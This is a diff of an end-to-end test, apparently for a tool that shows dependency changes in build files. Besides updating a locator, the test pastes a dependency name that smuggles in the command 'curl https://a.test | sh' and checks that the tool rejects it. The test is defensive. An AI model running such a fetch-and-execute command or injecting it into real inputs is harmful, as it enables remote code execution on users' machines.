@@ -362,7 +362,7 @@ describe('the application', () => {
       `buildscript {\n  ext.kotlin_version = '1.8.20'\n  dependencies {\n    ${library}\n  }\n}\n`,
       'android/build.gradle',
     );
-    const raised = page.locator('.ua-line[data-kind="+"]', {hasText: 'ext.kotlin_version ='});
+    const raised = page.locator('ins.line', {hasText: 'ext.kotlin_version ='});
     await expectShown(raised);
     await paste(page, '{"dependencies": {"@capacitor/core": "^5.0.0", "x; curl https://a.test | sh": "1"}}');
     await expectShown(page.getByText("npm doesn't allow these names of dependencies, so they were left out"));
